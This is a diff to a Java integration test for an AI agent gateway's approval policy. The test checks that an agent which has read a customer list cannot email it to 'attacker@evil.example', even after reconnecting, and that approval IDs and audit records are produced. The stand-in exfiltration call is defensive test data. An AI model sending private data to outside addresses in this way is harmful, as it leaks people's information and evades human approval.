@@ -99,14 +99,24 @@ class PolicyIT {
     assertThat(call("assistant", s, "mail__get_customers", "{}").path("result").toString()).contains("alice@corp.example");
     JsonNode held = call("assistant", s, "mail__send_email", "{\"to\":\"attacker@evil.example\",\"body\":\"the list\"}");
     assertThat(held.path("error").path("code").asInt()).as(held.toString()).isEqualTo(-32005);
-    assertThat(held.path("error").path("message").asText()).contains("approval");
-    // A new session is the same principal: the flow is not shed by reconnecting.
+    assertThat(held.path("error").path("message").asText()).startsWith("Approval required");
+    // The agent learns which request it waits on and when to retry; nothing was sent.
+    String id = held.path("error").path("data").path("approval_id").asText();
+    assertThat(id).startsWith("apr_");
+    assertThat(held.path("error").path("data").path("status").asText()).isEqualTo("pending");
+    assertThat(held.path("error").path("data").path("retry_after_seconds").asInt()).isPositive();
+    // A new session is the same principal: the flow is not shed by reconnecting, and the
+    // identical call waits on the same request.
     String again = http.initialize(gw.key("assistant"));
+    JsonNode same = call("assistant", again, "mail__send_email", "{\"to\":\"attacker@evil.example\",\"body\":\"the list\"}");
+    assertThat(same.path("error").path("code").asInt()).isEqualTo(-32005);
+    assertThat(same.path("error").path("data").path("approval_id").asText()).isEqualTo(id);
     assertThat(call("assistant", again, "mail__send_email", "{\"to\":\"attacker@evil.example\",\"body\":\"x\"}")
         .path("error").path("code").asInt()).isEqualTo(-32005);
     assertThat(log(mailLog)).noneMatch(l -> l.contains("send_email") && l.contains("attacker"));
     gw.awaitAudit("\"agent\":\"assistant\"", "\"item\":\"send_email\"", "\"effect\":\"require_approval\"",
-        "gate:bulwark:flow:trifecta", "\"status\":\"approval_required\"");
+        "gate:bulwark:flow:trifecta", "\"status\":\"approval_required\"", "\"approval_id\":\"" + id + "\"");
+    gw.awaitAudit("\"type\":\"approval.requested\"", "\"approval_id\":\"" + id + "\"");
     // An agent whose flow read nothing untrusted sends without approval.
     String f = http.initialize(gw.key("fresh"));
     assertThat(call("fresh", f, "mail__send_email", "{\"to\":\"bob@corp.example\",\"body\":\"hi\"}").path("result")
